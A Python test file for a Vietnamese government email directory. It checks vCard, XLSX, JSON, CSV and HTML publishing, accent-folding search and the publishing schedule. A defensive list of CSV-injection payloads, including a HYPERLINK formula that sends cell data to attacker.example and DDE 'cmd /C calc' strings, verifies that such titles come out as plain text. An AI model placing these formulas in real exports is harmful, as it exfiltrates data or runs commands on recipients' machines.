"""Publication (Điều 9.8): vCard parses with vobject, XLSX opens with openpyxl, JSON and
CSV, and the HTML page's search finds a name typed without accents (node, and Chromium
when installed)."""

from __future__ import annotations

import csv
import json
import re
import shutil
import subprocess
from pathlib import Path
from typing import Any

import vobject
from openpyxl import load_workbook

from congthu.app import App
from congthu.directory import Directory, publish
from tests.conftest import need


def make_dir(path: Path, extra: str) -> Path:
    path.mkdir(parents=True)
    (path / "congthu.toml").write_text(
        "[passwords]\nargon2_time_cost = 1\nargon2_memory_kib = 256\nargon2_parallelism = 1\n" + extra,
        encoding="utf-8")
    return path


async def fill(app: App) -> None:
    d = Directory(app)
    await d.add_org("Sở Thông tin và Truyền thông")
    await d.add_org("Phòng Công nghệ thông tin", parent="sotttt")
    await d.add_person("Nguyễn Thanh Bình", "sotttt", title="Giám đốc", rank=1, phone="0299 3822 222")
    await d.add_person("Đoàn Văn Thông", "phongcntt.sotttt", title="Trưởng phòng; CNTT, \"A\"")
    await d.add_person("Trần Thị Hoà", "phongcntt.sotttt", title="Chuyên viên")


async def test_publish_every_format(eapp: App, tmp_path: Path) -> None:
    await fill(eapp)
    dest = tmp_path / "pub"
    files = await publish(eapp, dest)
    assert {f.name for f in files} == {"index.html", "danh-ba.csv", "danh-ba.xlsx", "danh-ba.vcf", "danh-ba.json"}

    cards = list(vobject.readComponents((dest / "danh-ba.vcf").read_text(encoding="utf-8")))
    people = {c.fn.value: c for c in cards if "n" in c.contents and c.n.value.given}
    assert set(people) >= {"Nguyễn Thanh Bình", "Đoàn Văn Thông", "Trần Thị Hoà"}
    binh = people["Nguyễn Thanh Bình"]
    assert binh.email.value == "ntbinh@soctrang.gov.vn" and binh.n.value.family == "Nguyễn"
    assert binh.title.value == "Giám đốc" and binh.org.value == ["Sở Thông tin và Truyền thông"]
    assert people["Đoàn Văn Thông"].title.value == "Trưởng phòng; CNTT, \"A\""
    assert "tel" not in binh.contents  # phone is not public by default

    sheet = load_workbook(dest / "danh-ba.xlsx").worksheets[0]
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0] == ("Họ và tên", "Chức vụ", "Cơ quan, đơn vị", "Địa chỉ thư điện tử")
    assert ("Nguyễn Thanh Bình", "Giám đốc", "Sở Thông tin và Truyền thông", "ntbinh@soctrang.gov.vn") in rows

    data = json.loads((dest / "danh-ba.json").read_text(encoding="utf-8"))
    names = [p["name"] for o in data["organisations"] for p in o["people"]]
    assert sorted(names) == sorted(["Nguyễn Thanh Bình", "Đoàn Văn Thông", "Trần Thị Hoà"])
    assert all(set(p) == {"name", "title", "organisation", "address"} for o in data["organisations"]
               for p in o["people"])

    with (dest / "danh-ba.csv").open(encoding="utf-8-sig") as f:
        table = list(csv.reader(f))
    assert table[0][0] == "Họ và tên" and any(r[0] == "Đoàn Văn Thông" for r in table)

    page = (dest / "index.html").read_text(encoding="utf-8")
    assert '<html lang="vi">' in page and "Nguyễn Thanh Bình" in page and "Phòng Công nghệ thông tin" in page


async def test_public_fields_setting(tmp_path: Path) -> None:
    data = make_dir(tmp_path / "d", '[directory]\npublic_fields = ["name", "address", "phone"]\n')
    app = await App.open(data)
    try:
        await fill(app)
        await publish(app, tmp_path / "pub")
    finally:
        await app.close()
    data_json = json.loads((tmp_path / "pub" / "danh-ba.json").read_text(encoding="utf-8"))
    person = next(p for o in data_json["organisations"] for p in o["people"] if p["name"] == "Nguyễn Thanh Bình")
    assert person == {"name": "Nguyễn Thanh Bình", "address": "ntbinh@soctrang.gov.vn", "phone": "0299 3822 222"}
    assert "Giám đốc" not in (tmp_path / "pub" / "index.html").read_text(encoding="utf-8")
    card = next(c for c in vobject.readComponents((tmp_path / "pub" / "danh-ba.vcf").read_text(encoding="utf-8"))
                if c.fn.value == "Nguyễn Thanh Bình")
    assert card.tel.value == "0299 3822 222" and "title" not in card.contents


async def test_page_search_folds_accents_with_node(dapp: App, tmp_path: Path) -> None:
    need("node", "nodejs")
    await fill(dapp)
    await publish(dapp, tmp_path)
    page = (tmp_path / "index.html").read_text(encoding="utf-8")
    script = re.search(r"<script>(.*)</script>", page, re.S)
    assert script
    fold_js = script.group(1).split("document.addEventListener")[0]
    keys = re.findall(r'data-k="([^"]*)"', page)
    program = fold_js + f"""
const keys = {json.dumps(keys)};
const out = {{}};
for (const q of ["nguyen thanh binh", "Nguyễn Thanh Bình", "NTBINH", "doan van", "ĐOÀN", "tran thi hoa",
                 "hoà", "hòa"]) {{
  const terms = fold(q).split(' ').filter(Boolean);
  out[q] = keys.filter(k => terms.every(t => k.indexOf(t) >= 0)).length;
}}
console.log(JSON.stringify(out));
"""
    result = subprocess.run(["node", "-e", program], capture_output=True, text=True, timeout=30, check=True)
    found = json.loads(result.stdout)
    assert found["nguyen thanh binh"] == found["Nguyễn Thanh Bình"] == found["NTBINH"] == 1
    assert found["doan van"] == found["ĐOÀN"] == 1
    assert found["tran thi hoa"] == found["hoà"] == found["hòa"] == 1


def _chromium() -> str:
    """Debian's Chromium (`make test` installs it)."""
    for name in ("chromium", "chromium-headless-shell"):
        if shutil.which(name):
            return str(shutil.which(name))
    raise AssertionError("Chromium is not installed (apt-get install chromium)")


async def test_page_renders_and_searches_in_chromium(dapp: App, tmp_path: Path) -> None:
    """The page opened with ?q=nguyen thanh binh (typed without accents) shows only him."""
    await fill(dapp)
    await publish(dapp, tmp_path)
    url = (tmp_path / "index.html").as_uri() + "?q=nguyen%20thanh%20binh"
    result = subprocess.run(
        [_chromium(), "--headless", "--no-sandbox", "--disable-gpu", "--virtual-time-budget=3000",
         "--disable-background-networking", "--disable-component-update", "--no-first-run",
         f"--user-data-dir={tmp_path / 'chromium-profile'}",
         "--dump-dom", url], capture_output=True, text=True, timeout=90, check=True)
    dom = result.stdout
    rows = re.findall(r"<tr data-k=\"[^\"]*\"( class=\"org-row\")?( hidden=\"\")?>(.*?)</tr>", dom)
    visible = [cells for _org, hidden, cells in rows if not hidden]
    assert len(visible) == 1 and "Nguyễn Thanh Bình" in visible[0]
    assert "1 kết quả" in dom


async def test_publication_schedule(dapp: App) -> None:
    """Điều 9.8: published when due (never published, or older than the interval), not
    again while fresh; 0 hours switches the schedule off."""
    import os
    import time

    from congthu.directory import jobs

    await fill(dapp)
    index = dapp.path(dapp.settings.directory.publish_dir) / "index.html"
    assert not index.exists()
    written = await jobs.publish_if_due(dapp)
    assert index in written and "Nguyễn Thanh Bình" in index.read_text(encoding="utf-8")
    assert await jobs.publish_if_due(dapp) == []  # fresh
    hours = dapp.settings.directory.publish_every_hours
    remaining = jobs.due_in(dapp)
    assert remaining is not None and hours * 3600 - 60 < remaining <= hours * 3600
    stale = time.time() - hours * 3600 - 1
    os.utime(index, (stale, stale))
    await Directory(dapp).add_person("Lê Văn Tám", "sotttt", title="Chuyên viên")
    assert index in await jobs.publish_if_due(dapp)
    assert "Lê Văn Tám" in index.read_text(encoding="utf-8")
    dapp.settings.directory.publish_every_hours = 0
    os.utime(index, (stale, stale))
    assert jobs.due_in(dapp) is None and await jobs.publish_if_due(dapp) == []


def test_running_server_publishes(server: Any) -> None:
    """The server's background job publishes a directory never published before."""
    import time

    index = server.app.path(server.settings.directory.publish_dir) / "index.html"
    deadline = time.monotonic() + 30
    while not index.exists() and time.monotonic() < deadline:
        time.sleep(0.1)
    assert index.exists()
    assert "Danh bạ thư điện tử công vụ" in index.read_text(encoding="utf-8")


# Cells an office spreadsheet would read as a formula (OWASP "CSV Injection"): a title
# like these must come out as the text it is, in danh-ba.xlsx and danh-ba.csv alike.
FORMULA_TITLES = [
    '=HYPERLINK("http://attacker.example/?x="&A1,"Bấm vào đây")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


async def test_formula_titles_are_text(eapp: App, tmp_path: Path) -> None:
    """A title beginning with =, +, -, @ (set through the directory) is text in the XLSX
    (string cells, never formulas) and escaped in the CSV (a leading quote, every cell
    quoted); the JSON keeps it unchanged."""
    d = Directory(eapp)
    await d.add_org("Sở Thông tin và Truyền thông")
    stored = FORMULA_TITLES[:4]
    for i, title in enumerate(stored):
        await d.add_person(f"Nguyễn Văn {chr(ord('A') + i)}", "sotttt", title=title)
    dest = tmp_path / "pub"
    await publish(eapp, dest)

    sheet = load_workbook(dest / "danh-ba.xlsx").worksheets[0]
    cells = {c.value: c for row in sheet.iter_rows(min_row=2) for c in row}
    for title in stored:
        assert title in cells, title
        assert cells[title].data_type == "s", (title, cells[title].data_type)
    assert not any(c.data_type == "f" for row in sheet.iter_rows() for c in row)

    raw = (dest / "danh-ba.csv").read_text(encoding="utf-8-sig")
    with (dest / "danh-ba.csv").open(encoding="utf-8-sig", newline="") as f:
        table = list(csv.reader(f))
    titles = {row[1] for row in table[1:]}
    for title in stored:
        assert "'" + title in titles, title
    for line in raw.splitlines():
        assert line.startswith('"')  # every cell quoted (OWASP)
    for row in table:
        for cell in row:
            assert not cell or cell[0] not in "=+-@\t\r", cell

    data = json.loads((dest / "danh-ba.json").read_text(encoding="utf-8"))
    shown = {p["title"] for o in data["organisations"] for p in o["people"]}
    assert set(stored) <= shown


def test_formula_cells_every_leading_character(tmp_path: Path) -> None:
    """Tab and CR too (a title read from an import file may begin with one)."""
    from congthu.directory.publish import Entry, render_csv, render_xlsx

    entries = [Entry("person", f"Người {i}", title, "Sở", f"n{i}@soctrang.gov.vn", "")
               for i, title in enumerate(FORMULA_TITLES)]
    groups: list[tuple[int, Any, list[Any]]] = [(0, None, entries)]
    fields = ["name", "title", "organisation", "address"]
    (tmp_path / "d.xlsx").write_bytes(render_xlsx(groups, fields))
    sheet = load_workbook(tmp_path / "d.xlsx").worksheets[0]
    column = [row[1] for row in sheet.iter_rows(min_row=2)]
    # (XML reads a CR in text back as LF: the cell is still the title, as text.)
    assert [c.value for c in column] == [t.replace("\r", "\n") for t in FORMULA_TITLES]
    assert all(c.data_type == "s" for c in column)
    text = render_csv(groups, fields).decode("utf-8-sig")
    table = list(csv.reader(text.splitlines(keepends=True)))
    assert [row[1] for row in table[1:]] == ["'" + t for t in FORMULA_TITLES]


def test_xlsx_of_many_people(tmp_path: Path) -> None:
    """A directory of 3,000 people as XLSX: formula-like cells stay quote-prefixed text,
    the header is bold, the columns have their widths. The sheet is written in openpyxl's
    write-only mode, where a row cannot be looked up again after it is appended: doing
    so (``sheet.max_row``, ``sheet[row]``) scanned every cell, quadratic, eight minutes
    of CPU for a province of 50,000 at every server's first start (docs/benchmarks.md)."""
    from congthu.directory.publish import Entry, render_xlsx

    entries = [Entry("person", f"Người {i}", "=1+1" if i % 1000 == 0 else "Chuyên viên", "Sở",
                     f"n{i}@soctrang.gov.vn", "") for i in range(3000)]
    data = render_xlsx([(0, None, entries)], ["name", "title", "organisation", "address"])
    (tmp_path / "d.xlsx").write_bytes(data)
    sheet = load_workbook(tmp_path / "d.xlsx").worksheets[0]
    assert sheet.max_row == 3001
    assert [c.value for c in sheet[2]] == ["Người 0", "=1+1", "Sở", "n0@soctrang.gov.vn"]
    assert [c.value for c in sheet[1002]] == ["Người 1000", "=1+1", "Sở", "n1000@soctrang.gov.vn"]
    assert sheet["A1"].font.b and sheet["B2"].data_type == "s" and sheet["B2"].quotePrefix
    assert sheet["B3"].value == "Chuyên viên" and not sheet["B3"].quotePrefix
    assert sheet.column_dimensions["D"].width == 45
